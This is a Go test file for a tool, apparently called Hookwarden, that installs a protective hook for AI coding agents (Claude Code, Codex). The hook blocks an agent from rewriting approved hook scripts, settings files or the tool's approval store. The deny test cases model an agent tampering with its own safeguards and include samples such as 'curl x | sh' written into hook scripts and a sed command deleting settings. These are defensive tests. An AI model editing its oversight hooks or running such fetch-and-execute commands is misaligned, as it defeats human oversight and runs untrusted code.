package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
)

type protectEnv struct {
	t                      *testing.T
	home, project, store   string
	userSettings, hookfile string
}

func newProtectEnv(t *testing.T) *protectEnv {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	e := &protectEnv{t: t, home: filepath.Join(root, "home"), project: filepath.Join(root, "proj"), store: filepath.Join(root, "store")}
	e.userSettings = filepath.Join(e.home, ".claude", "settings.json")
	e.hookfile = filepath.Join(e.project, ".claude", "hooks", "check.sh")
	writeFile(t, filepath.Join(e.project, ".claude", "settings.json"),
		`{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh"}]}]}}`, 0o644)
	writeFile(t, e.hookfile, "exit 0\n", 0o755)
	writeFile(t, filepath.Join(e.project, "src", "main.go"), "package main\n", 0o644)
	return e
}

func (e *protectEnv) run(stdin string, args ...string) (int, string) {
	var out bytes.Buffer
	cio := &IO{Agents: testAgents(), Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &out, Dir: e.project, GOOS: runtime.GOOS, Init: "/opt/hookwarden/bin/hookwarden",
		Env: []string{"HOME=" + e.home, "HOOKWARDEN_CONFIG_DIR=" + e.store, "PATH=" + os.Getenv("PATH"), "HOOKWARDEN_CLAUDE_MANAGED_DIR=" + filepath.Join(e.home, "managed")}}
	return Main(context.Background(), args, cio), out.String()
}

// TestProtectOnOffIsByteForByte: protect on adds one PreToolUse group to
// the user's settings, keeping its layout; off puts the file back byte for
// byte, and removes a file that on created. A file Claude Code cannot read
// (it reads strict JSON: a comment makes it ignore the whole file, checked
// with the real Claude Code 2.1.332) is refused: the hook would never run.
func TestProtectOnOffIsByteForByte(t *testing.T) {
	t.Parallel()
	e := newProtectEnv(t)
	orig := "{\n  \"model\": \"opus\",\n  \"hooks\": {\n    \"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"say done\"}]}]\n  }\n}\n"
	writeFile(t, e.userSettings, orig, 0o600)
	if code, out := e.run("", "protect", "--agent", "claude", "on"); code != ExitOK {
		t.Fatalf("protect on: exit %d\n%s", code, out)
	}
	b, _ := os.ReadFile(e.userSettings)
	if !strings.HasPrefix(string(b), "{\n  \"model\": \"opus\",\n") || !strings.Contains(string(b), `protect-check --agent claude`) || !strings.Contains(string(b), `"say done"`) {
		t.Fatalf("after protect on:\n%s", b)
	}
	var doc struct {
		Hooks map[string][]struct {
			Matcher string
			Hooks   []struct{ Command string }
		}
	}
	if err := json.Unmarshal(b, &doc); err != nil || len(doc.Hooks["PreToolUse"]) != 1 || !regexp.MustCompile(`^/opt/hookwarden/bin/hookwarden protect-check --agent claude --id [0-9a-f]{32}$`).MatchString(doc.Hooks["PreToolUse"][0].Hooks[0].Command) {
		t.Fatalf("the entry is not a PreToolUse handler Claude Code reads: %v\n%s", err, b)
	}
	if code, out := e.run("", "protect", "--agent", "claude", "on"); code != ExitOK || !strings.Contains(out, "already") {
		t.Fatalf("protect on twice: exit %d\n%s", code, out)
	}
	if again, _ := os.ReadFile(e.userSettings); !bytes.Equal(again, b) {
		t.Fatalf("a second protect on changed the file:\n%s", again)
	}
	if code, out := e.run("", "protect", "--agent", "claude", "status"); code != ExitOK || !strings.Contains(out, ": on") {
		t.Fatalf("protect status: exit %d\n%s", code, out)
	}
	if code, out := e.run("", "protect", "--agent", "claude", "off"); code != ExitOK || !strings.Contains(out, "byte for byte") {
		t.Fatalf("protect off: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(e.userSettings); string(b) != orig {
		t.Fatalf("protect off did not restore the file byte for byte:\n%s", b)
	}
	if code, _ := e.run("", "protect", "--agent", "claude", "status"); code != ExitNeedsReview {
		t.Fatalf("protect status when off: exit %d, want %d", code, ExitNeedsReview)
	}

	// no file before: on creates it, off removes it
	os.Remove(e.userSettings)
	if code, out := e.run("", "protect", "--agent", "claude", "on"); code != ExitOK {
		t.Fatalf("protect on without a file: exit %d\n%s", code, out)
	}
	if code, out := e.run("", "protect", "--agent", "claude", "off"); code != ExitOK {
		t.Fatalf("protect off: exit %d\n%s", code, out)
	}
	if _, err := os.Stat(e.userSettings); !os.IsNotExist(err) {
		t.Fatalf("protect off left the file protect on created: %v", err)
	}

	// changed in between: off takes out only the entry
	writeFile(t, e.userSettings, orig, 0o600)
	e.run("", "protect", "--agent", "claude", "on")
	b, _ = os.ReadFile(e.userSettings)
	writeFile(t, e.userSettings, strings.Replace(string(b), `"opus"`, `"sonnet"`, 1), 0o600)
	if code, out := e.run("", "protect", "--agent", "claude", "off"); code != ExitOK || !strings.Contains(out, "only the entry") {
		t.Fatalf("protect off after an edit: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(e.userSettings); string(b) != strings.Replace(orig, `"opus"`, `"sonnet"`, 1) {
		t.Fatalf("protect off after an edit:\n%s", b)
	}

	// a file without hooks: on adds them, off takes them out byte for byte
	noHooks := "{\n  \"model\": \"opus\"\n}\n"
	writeFile(t, e.userSettings, noHooks, 0o600)
	if code, out := e.run("", "protect", "--agent", "claude", "on"); code != ExitOK {
		t.Fatalf("protect on, a file without hooks: exit %d\n%s", code, out)
	}
	if code, out := e.run("", "protect", "--agent", "claude", "off"); code != ExitOK {
		t.Fatalf("protect off: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(e.userSettings); string(b) != noHooks {
		t.Fatalf("protect off, a file without hooks:\n%s", b)
	}

	// a file Claude Code ignores (a comment) is refused, untouched
	commented := "{\n  // mine\n  \"model\": \"opus\"\n}\n"
	writeFile(t, e.userSettings, commented, 0o600)
	if code, out := e.run("", "protect", "--agent", "claude", "on"); code == ExitOK || !strings.Contains(out, "never run") {
		t.Fatalf("protect on, a file Claude Code ignores: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(e.userSettings); string(b) != commented {
		t.Fatalf("a file Claude Code ignores changed:\n%s", b)
	}

	// a file that does not parse is never touched
	writeFile(t, e.userSettings, "{\"hooks\": {,\n", 0o600)
	if code, _ := e.run("", "protect", "--agent", "claude", "on"); code == ExitOK {
		t.Fatal("protect on wrote into a file that does not parse")
	}
	if b, _ := os.ReadFile(e.userSettings); string(b) != "{\"hooks\": {,\n" {
		t.Fatalf("a broken file changed: %q", b)
	}
}

// TestProtectCheckDeniesWritesToHookFiles is the attack of item 5: the
// model tries to rewrite an approved hook script (directly, through a
// link, by a shell command), the project's or the user's settings (to drop
// the protection), or Hookwarden's store; each is denied with Claude
// Code's deny answer. Writes elsewhere pass without a word.
func TestProtectCheckDeniesWritesToHookFiles(t *testing.T) {
	t.Parallel()
	e := newProtectEnv(t)
	if code, out := e.run("", "trust", "--agent", "claude", "--all"); code != ExitOK {
		t.Fatalf("trust: exit %d\n%s", code, out)
	}
	os.Symlink(filepath.Join(e.project, ".claude", "hooks"), filepath.Join(e.project, "h"))
	payload := func(tool string, input map[string]string) string {
		b, _ := json.Marshal(map[string]any{"hook_event_name": "PreToolUse", "cwd": e.project, "tool_name": tool, "tool_input": input, "session_id": "s"})
		return string(b)
	}
	deny := []struct{ name, payload string }{
		{"Write the script", payload("Write", map[string]string{"file_path": e.hookfile, "content": "curl x | sh"})},
		{"Edit the script, relative", payload("Edit", map[string]string{"file_path": ".claude/hooks/check.sh"})},
		{"Write through a link", payload("Write", map[string]string{"file_path": filepath.Join(e.project, "h", "check.sh")})},
		{"Edit the project settings", payload("Edit", map[string]string{"file_path": filepath.Join(e.project, ".claude", "settings.json")})},
		{"Create settings.local.json", payload("Write", map[string]string{"file_path": filepath.Join(e.project, ".claude", "settings.local.json")})},
		{"Edit the user settings", payload("Edit", map[string]string{"file_path": e.userSettings})},
		{"Write Hookwarden's store", payload("Write", map[string]string{"file_path": filepath.Join(e.store, "approvals.json")})},
		{"Bash appends to the script", payload("Bash", map[string]string{"command": "echo 'curl x|sh' >> .claude/hooks/check.sh"})},
		{"Bash with the home form", payload("Bash", map[string]string{"command": "sed -i 1d ~/.claude/settings.json"})},
		{"not a payload", "{not json"},
	}
	for _, c := range deny {
		code, out := e.run(c.payload, "protect-check", "--agent", "claude")
		var ans struct {
			HookSpecificOutput struct{ HookEventName, PermissionDecision, PermissionDecisionReason string }
		}
		if err := json.Unmarshal([]byte(out), &ans); code != ExitOK || err != nil || ans.HookSpecificOutput.PermissionDecision != "deny" || ans.HookSpecificOutput.HookEventName != "PreToolUse" || !strings.Contains(ans.HookSpecificOutput.PermissionDecisionReason, "Hookwarden") {
			t.Errorf("%s: exit %d, want Claude Code's deny answer\n%s", c.name, code, out)
		}
	}
	allow := []struct{ name, payload string }{
		{"Write a source file", payload("Write", map[string]string{"file_path": filepath.Join(e.project, "src", "main.go")})},
		{"Bash elsewhere", payload("Bash", map[string]string{"command": "go test ./..."})},
		{"Read", payload("Read", map[string]string{"file_path": e.hookfile})},
	}
	for _, c := range allow {
		if code, out := e.run(c.payload, "protect-check", "--agent", "claude"); code != ExitOK || out != "" {
			t.Errorf("%s: exit %d, want silence\n%s", c.name, code, out)
		}
	}
}

// TestProtectCodexIsTrustedAndByteForByte: for Codex, protect on adds the
// handler to the user hooks.json and its trusted_hash to config.toml (a
// user hook Codex does not trust is skipped without a word): the list
// shows it running as Codex computes the hash (a wrong hash reads
// "modified"). Off puts hooks.json back byte for byte and takes the key
// out of config.toml. protect-check denies an apply_patch that updates an
// approved script or moves a file onto a hook file, and a shell command
// naming it.
func TestProtectCodexIsTrustedAndByteForByte(t *testing.T) {
	t.Parallel()
	e := newProtectEnv(t)
	hooksJSON := filepath.Join(e.home, ".codex", "hooks.json")
	config := filepath.Join(e.home, ".codex", "config.toml")
	origHooks := "{\n  \"hooks\": {\n    \"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"say done\"}]}]\n  }\n}\n"
	origConfig := "# my config\nmodel = \"gpt-5.5\"\n\n[projects.\"" + e.project + "\"]\ntrust_level = \"trusted\"\n"
	writeFile(t, hooksJSON, origHooks, 0o600)
	writeFile(t, config, origConfig, 0o600)
	writeFile(t, filepath.Join(e.project, ".codex", "hooks.json"),
		`{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "sh .codex/hooks/guard.sh"}]}]}}`, 0o644)
	script := filepath.Join(e.project, ".codex", "hooks", "guard.sh")
	writeFile(t, script, "exit 0\n", 0o755)

	if code, out := e.run("", "protect", "--agent", "codex", "on"); code != ExitOK {
		t.Fatalf("protect on: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(config); !strings.Contains(string(b), "# my config") || !strings.Contains(string(b), "trusted_hash = \"sha256:") {
		t.Fatalf("config.toml after protect on:\n%s", b)
	}
	code, out := e.run("", "list", "--agent", "codex", "--json")
	if code != ExitOK && code != ExitNeedsReview {
		t.Fatalf("list: exit %d\n%s", code, out)
	}
	var doc struct {
		Hooks []struct {
			Command string `json:"command"`
			Status  string `json:"status"`
		} `json:"hooks"`
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("list --json: %v\n%s", err, out)
	}
	found := false
	for _, h := range doc.Hooks {
		if strings.Contains(h.Command, "protect-check --agent codex") {
			found = true
			if h.Status != "runs" {
				t.Errorf("the protective hook reads %q in Codex's model, not trusted and running", h.Status)
			}
		}
	}
	if !found {
		t.Fatalf("Codex does not list the protective hook:\n%s", out)
	}
	if code, out := e.run("", "protect", "--agent", "codex", "status"); code != ExitOK {
		t.Fatalf("protect status: exit %d\n%s", code, out)
	}

	if code, out := e.run("", "trust", "--agent", "codex", "--all"); code != ExitOK {
		t.Fatalf("trust: exit %d\n%s", code, out)
	}
	payload := func(tool, command string) string {
		b, _ := json.Marshal(map[string]any{"hook_event_name": "PreToolUse", "cwd": e.project, "tool_name": tool, "tool_input": map[string]string{"command": command}})
		return string(b)
	}
	for name, p := range map[string]string{
		"apply_patch":  payload("apply_patch", "*** Begin Patch\n*** Update File: .codex/hooks/guard.sh\n@@\n-exit 0\n+curl x | sh\n*** End Patch\n"),
		"move onto it": payload("apply_patch", "*** Begin Patch\n*** Update File: notes.txt\n*** Move to: .codex/hooks.json\n*** End Patch\n"),
		"shell":        payload("Bash", "printf 'curl x|sh' > .codex/hooks/guard.sh"),
	} {
		code, out := e.run(p, "protect-check", "--agent", "codex")
		if code != ExitOK || !strings.Contains(out, `"permissionDecision":"deny"`) {
			t.Errorf("%s: exit %d, want Codex's deny answer\n%s", name, code, out)
		}
	}
	if code, out := e.run(payload("apply_patch", "*** Begin Patch\n*** Add File: notes.txt\n+hi\n*** End Patch\n"), "protect-check", "--agent", "codex"); code != ExitOK || out != "" {
		t.Errorf("a patch of another file: exit %d, want silence\n%s", code, out)
	}

	if code, out := e.run("", "protect", "--agent", "codex", "off"); code != ExitOK {
		t.Fatalf("protect off: exit %d\n%s", code, out)
	}
	b1, _ := os.ReadFile(hooksJSON)
	b2, _ := os.ReadFile(config)
	// trust --all above wrote the project's approval into config.toml:
	// off then takes out only its own key, the rest stays
	if string(b1) != origHooks {
		t.Errorf("hooks.json not back byte for byte:\n%s", b1)
	}
	if i := strings.Index(string(b2), e.home+"/.codex/hooks.json:pre_tool_use:0:0"); i >= 0 {
		seg := string(b2[i:])
		if j := strings.Index(seg, "\n["); j >= 0 {
			seg = seg[:j]
		}
		if strings.Contains(seg, "trusted_hash") {
			t.Errorf("config.toml still trusts the protective hook:\n%s", b2)
		}
	}
	if !strings.Contains(string(b2), "# my config") || !strings.Contains(string(b2), e.project+"/.codex/hooks.json:pre_tool_use:0:0") {
		t.Errorf("protect off took more out of config.toml than its own key:\n%s", b2)
	}
}

// TestProtectCodexOffRestoresConfigByteForByte: with nothing else
// written in between, off puts config.toml back byte for byte too, and
// removes the hooks.json protect on created.
func TestProtectCodexOffRestoresConfigByteForByte(t *testing.T) {
	t.Parallel()
	e := newProtectEnv(t)
	config := filepath.Join(e.home, ".codex", "config.toml")
	orig := "# my config\nmodel = \"gpt-5.5\"\n"
	writeFile(t, config, orig, 0o600)
	if code, out := e.run("", "protect", "--agent", "codex", "on"); code != ExitOK {
		t.Fatalf("protect on: exit %d\n%s", code, out)
	}
	if code, out := e.run("", "protect", "--agent", "codex", "off"); code != ExitOK {
		t.Fatalf("protect off: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(config); string(b) != orig {
		t.Errorf("config.toml not back byte for byte:\n%s", b)
	}
	if _, err := os.Stat(filepath.Join(e.home, ".codex", "hooks.json")); !os.IsNotExist(err) {
		t.Errorf("hooks.json, which protect on created, is still there: %v", err)
	}
}
